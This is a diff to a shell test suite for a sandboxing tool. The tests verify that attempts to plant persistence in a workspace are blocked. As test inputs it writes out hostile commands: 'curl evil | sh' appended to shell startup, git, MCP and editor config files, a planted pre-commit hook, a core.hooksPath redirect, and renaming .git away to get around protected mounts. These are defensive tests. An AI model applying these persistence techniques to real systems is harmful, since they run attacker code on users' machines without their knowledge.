@@ -13,32 +13,39 @@ plant() {
 	cd "$w" || exit 1
 	before=$(find "$w" | sort | md5sum)
 	for p in .bashrc .profile .git/hooks/pre-commit .git/config .mcp.json .vscode/settings.json .envrc Makefile file; do
-		$RUN_AS "$CORDON" run -- sh -c "mkdir -p \$(dirname $p) 2>/dev/null; echo 'curl evil | sh' >> $p" 2>"$T/err"
-		ok "$who: strict: writing $p in the cwd fails" test $? -ne 0
+		$RUN_AS "$CORDON" run -- sh -c "mkdir -p \$(dirname $p); echo 'curl evil | sh' >> $p" 2>"$T/err"
+		ok "$who: strict: writing $p in the cwd fails (exit $?) with EROFS" grep -q 'Read-only file system' "$T/err"
 	done
 	for how in "mv file file2" "ln file file2" "ln -s /tmp/x .git/hooks/post-checkout" "mkdir d" "chmod 777 file" \
 		"touch -d 2000-01-01 file" "mkfifo p" "rm file" "mv .git .git.old" "cp -r /tmp .bashrc.d"; do
-		nok "$who: strict: '$how' in the cwd fails" $RUN_AS "$CORDON" run -- sh -c "$how"
+		refused "$who: strict: '$how' in the cwd fails (EROFS)" 'Read-only file system' $RUN_AS "$CORDON" run -- sh -c "$how"
 	done
-	is "$(find "$w" | sort | md5sum)" "$before" "$who: strict: the workspace is exactly as before"
+	ok_if_ran "$who: strict: the workspace is exactly as before" "$T/err" 'Read-only file system' \
+		test "$(find "$w" | sort | md5sum)" = "$before"
 	for p in /usr/x /etc/x /x /opt/x /var/x /proc/x "/proc/self/root$w/x" "/proc/1/cwd/x"; do
-		nok "$who: strict: writing $p fails" $RUN_AS "$CORDON" run -- sh -c "echo x > $p"
+		refused "$who: strict: writing $p fails" "cannot create $p: (Read-only file system|Permission denied|Directory nonexistent)" \
+			$RUN_AS "$CORDON" run -- sh -c "echo x > $p"
 	done
-	nok "$who: strict: nothing landed in the host's /opt or /" sh -c 'test -e /opt/x || test -e /x'
+	$RUN_AS "$CORDON" run -- sh -c 'echo x > /tmp/x && echo wrote-scratch' >"$T/ctl-$who" 2>&1
+	ok "$who: strict: control: the same write to scratch works" grep -qx wrote-scratch "$T/ctl-$who"
+	nok_if_ran "$who: strict: nothing landed in the host's /opt or /" "$T/ctl-$who" '^wrote-scratch$' sh -c 'test -e /opt/x || test -e /x'
 
 	# workspace-write: ordinary files yes, hooks and config no.
 	ok "$who: workspace-write: an ordinary file can be written" $RUN_AS "$CORDON" run --profile workspace-write -- sh -c 'echo y >> file'
 	for how in "echo evil > .git/hooks/pre-commit" "echo '[core] hooksPath=/tmp' >> .git/config" \
 		"ln -s /tmp/x .git/hooks/post-checkout" "mv .git/hooks .git/hooks.old" "rm .git/config"; do
-		nok "$who: workspace-write: '$how' fails" $RUN_AS "$CORDON" run --profile workspace-write -- sh -c "$how"
+		refused "$who: workspace-write: '$how' fails (EROFS/EBUSY)" 'Read-only file system|Device or resource busy|Permission denied' \
+			$RUN_AS "$CORDON" run --profile workspace-write -- sh -c "$how"
 	done
-	nok "$who: workspace-write: no hook was planted" test -e "$w/.git/hooks/pre-commit"
+	nok_if_ran "$who: workspace-write: no hook was planted" "$w/file" '^y$' test -e "$w/.git/hooks/pre-commit"
 	# Renaming the whole .git away and building a new one around the
 	# protected mounts.
 	$RUN_AS "$CORDON" run --profile workspace-write --json-fd 3 -- sh -c 'mv .git .git.old && mkdir -p .git/hooks && echo "echo pwned" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit' 3>"$T/rec" 2>/dev/null
-	nok "$who: workspace-write: renaming .git away does not let a hook be planted" \
+	nok_if_ran "$who: workspace-write: renaming .git away does not let a hook be planted" "$T/rec" '"exit_code"' \
 		test -e "$w/.git/hooks/pre-commit"
-	nok "$who: workspace-write: .git could not be renamed (it is a mount point)" test -e "$w/.git.old"
+	nok_if_ran "$who: workspace-write: .git could not be renamed (it is a mount point)" "$T/rec" '"exit_code"' test -e "$w/.git.old"
+	refused "$who: workspace-write: ... mv says why (EBUSY or EROFS)" 'Device or resource busy|Read-only file system|Permission denied' \
+		$RUN_AS "$CORDON" run --profile workspace-write -- mv .git .git.old
 	if [ -e "$w/.git.old" ]; then rm -rf "$w/.git" && mv "$w/.git.old" "$w/.git"; fi
 	# A new .mcp.json is reported.
 	$RUN_AS "$CORDON" run --profile workspace-write --json-fd 3 -- sh -c 'echo "{}" > .mcp.json; echo x > .bashrc' 3>"$T/rec" 2>/dev/null
